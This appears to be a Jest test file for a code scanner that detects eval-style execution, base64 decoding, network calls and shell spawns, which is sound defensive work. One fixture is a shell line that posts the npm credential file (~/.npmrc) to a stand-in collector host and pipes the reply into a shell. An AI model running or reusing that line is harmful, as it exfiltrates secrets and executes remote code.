import { describe, expect, it } from '@jest/globals'
import type { FileFacts } from '../../../../src/rules/lib/code/types.js'
import {
  decodes,
  dynamicCode,
  lineSignals,
  networkSinks,
  spawns
} from '../../../../src/rules/lib/correlation/signals.js'

function facts(overrides: Partial<FileFacts>): FileFacts {
  return {
    parsed: true,
    strings: [],
    calls: [],
    members: [],
    properties: [],
    imports: [],
    identifiers: [],
    ...overrides
  }
}

const call = (callee: string, ...args: (string | undefined)[]) => ({ callee, args, line: 1 })

describe('correlation signals', () => {
  it.each([
    ['eval', true],
    ['globalThis.eval', true],
    ['new Function', true],
    ['vm.runInThisContext', true],
    ['setTimeout', false],
    ['JSON.parse', false]
  ])('dynamicCode: %s -> %s', (callee, expected) => {
    expect(dynamicCode(facts({ calls: [call(callee)] })).length > 0).toBe(expected)
  })

  it('counts a timer only when given a string', () => {
    expect(dynamicCode(facts({ calls: [call('setTimeout', 'steal()')] }))).toHaveLength(1)
  })

  it.each([
    [call('atob', undefined), true],
    [call('Buffer.from', undefined, 'base64'), true],
    [call('Buffer.from', undefined, 'utf8'), false],
    [call('String.fromCharCode'), true]
  ])('decodes: %j -> %s', (fact, expected) => {
    expect(decodes(facts({ calls: [fact] })).length > 0).toBe(expected)
  })

  it('counts a literal decoded from base64 as a decode, keyed by its value', () => {
    const found = decodes(
      facts({ strings: [{ value: 'eval(x)', line: 2, decodedFrom: 'base64' }] })
    )
    expect(found).toEqual([
      expect.objectContaining({ kind: 'decode', line: 2, key: 'decoded:eval(x)' })
    ])
  })

  it('finds network sinks but not a bare import', () => {
    const found = networkSinks(
      facts({ calls: [call('fetch')], imports: [{ specifier: 'https', line: 1 }] })
    )
    expect(found.map((signal) => signal.kind)).toEqual(['network-sink'])
  })

  it('ignores spawns of everyday tools', () => {
    const imports = [{ specifier: 'child_process', line: 1 }]
    const git = facts({ imports, calls: [call('cp.execSync', 'git status')] })
    const scanner = facts({ imports, calls: [call('cp.execSync', 'trufflehog filesystem /')] })
    expect(spawns(git, git)).toEqual([])
    expect(spawns(scanner, scanner)).toHaveLength(1)
  })

  it('reads shell lines', () => {
    const kinds = lineSignals('curl -d @$HOME/.npmrc https://collector.xyz | sh', 3).map(
      (s) => s.kind
    )
    expect(kinds).toEqual(expect.arrayContaining(['credential-read', 'network-sink', 'spawn']))
  })
})
